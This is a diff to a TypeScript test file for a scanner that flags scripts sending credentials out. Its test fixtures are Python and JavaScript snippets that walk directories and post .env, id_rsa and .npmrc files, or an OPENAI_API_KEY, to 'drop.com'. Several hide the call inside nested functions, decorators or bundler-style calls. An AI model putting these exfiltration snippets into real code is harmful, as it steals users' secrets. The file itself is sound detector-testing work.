@@ -3783,20 +3783,86 @@ Deno.test("what find prints is the paths it found, a credential file's when its 
   );
 });
 
-Deno.test("a name tested against a credential file's (f.startswith('.env'), f == 'id_rsa') names that file inside the test: a walk's harvest is sent", () => {
+Deno.test("a name tested against a credential file's (f.startswith('.env'), f == 'id_rsa', '.env' in f, re.search, fnmatch.fnmatch) names that file inside the test: a walk's harvest is sent", () => {
   const walk = (test: string, body: string) =>
     `import os, requests\nfor root, dirs, files in os.walk('.'):\n    for f in files:\n        if ${test}:\n            ${body}\n`;
   const send = "requests.post('https://drop.com/x', data=open(os.path.join(root, f)).read())";
-  for (const test of ["f.startswith('.env')", "f == 'id_rsa'", "f == '.npmrc'"]) {
+  for (
+    const test of [
+      "f.startswith('.env')",
+      "f == 'id_rsa'",
+      "f == '.npmrc'",
+      "'.env' in f",
+      "'id_rsa' in f",
+      "re.search(r'README|\\.env', f)",
+      "re.match(r'^id_rsa$', f)",
+      "fnmatch.fnmatch(f, '*.env')",
+    ]
+  ) {
     assert.deepEqual(secretSeverities("scripts/a.py", walk(test, send)), ["critical"], test);
   }
   // A test of no credential file's name, or the same name after its block, names nothing.
-  assert.deepEqual(secretSeverities("scripts/a.py", walk("f.endswith('.md')", send)), []);
+  for (const test of ["f.endswith('.md')", "'.py' in f", "re.search(r'\\.md$|README', f)"]) {
+    assert.deepEqual(secretSeverities("scripts/a.py", walk(test, send)), [], test);
+  }
   assert.deepEqual(
     secretSeverities(
       "scripts/a.py",
       `${walk("f.startswith('.env')", "print(f)")}        ${send}\n`,
     ),
+    [],
+  );
+});
+
+Deno.test("a Python function defined inside another, returned by a factory or wrapping a decorated function sends what its caller gives", () => {
+  const header = "import os, requests\n";
+  const key = "os.environ['OPENAI_API_KEY']";
+  const wrapper = (params: string, data: string) =>
+    `    def w(${params}):\n        requests.post('https://drop.com/x', data=${data})\n`;
+  for (
+    const text of [
+      // Called inside the function that defines it: the outer function sends its argument.
+      `${header}def outer(k):\n${wrapper("d", "d")}    w(k)\nouter(${key})\n`,
+      // A factory's product.
+      `${header}def make():\n${wrapper("d", "d")}    return w\nsend = make()\nsend(${key})\n`,
+      // A decorator whose wrapper sends the decorated function's arguments, *args included.
+      `${header}def leak(f):\n${
+        wrapper("*a, **kw", "str(a)")
+      }        return f(*a, **kw)\n    return w\n@leak\ndef use(key):\n    return len(key)\nuse(${key})\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  // A decorator that sends nothing, or one the script does not define, adds nothing; nor does
+  // the nested function's block, once it ends, make the outer function's own lines its.
+  for (
+    const text of [
+      `${header}import functools\n@functools.lru_cache\ndef use(key):\n    return len(key)\nuse(${key})\n`,
+      `${header}def quiet(f):\n    def w(*a):\n        return f(*a)\n    return w\n@quiet\ndef use(key):\n    return len(key)\nuse(${key})\n`,
+      `${header}def outer(k):\n${wrapper("d", "d")}    print(k)\nouter(${key})\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.py", text), [], text);
+});
+
+Deno.test("a client's function called in parentheses, as bundlers write it ((0, axios.post)(…)), is that function", () => {
+  const key = "process.env.OPENAI_API_KEY";
+  for (
+    const [path, text] of [
+      [
+        "scripts/a.mjs",
+        `import axios from 'axios';\nawait (0, axios.post)('https://drop.com/x', ${key});\n`,
+      ],
+      [
+        "scripts/a.mjs",
+        `await (0, fetch)('https://drop.com/x', { method: 'POST', body: ${key} });\n`,
+      ],
+      [
+        "scripts/a.py",
+        "import os, requests\n(requests.post)('https://drop.com/x', data=os.environ['OPENAI_API_KEY'])\n",
+      ],
+    ]
+  ) assert.deepEqual(secretSeverities(path!, text!), ["critical"], text);
+  // A value in parentheses that is not called, or a call inside them, is read as before.
+  assert.deepEqual(
+    secretSeverities("scripts/a.mjs", `const k = (0, ${key});\nconsole.log((k), (String)(k));\n`),
     [],
   );
 });
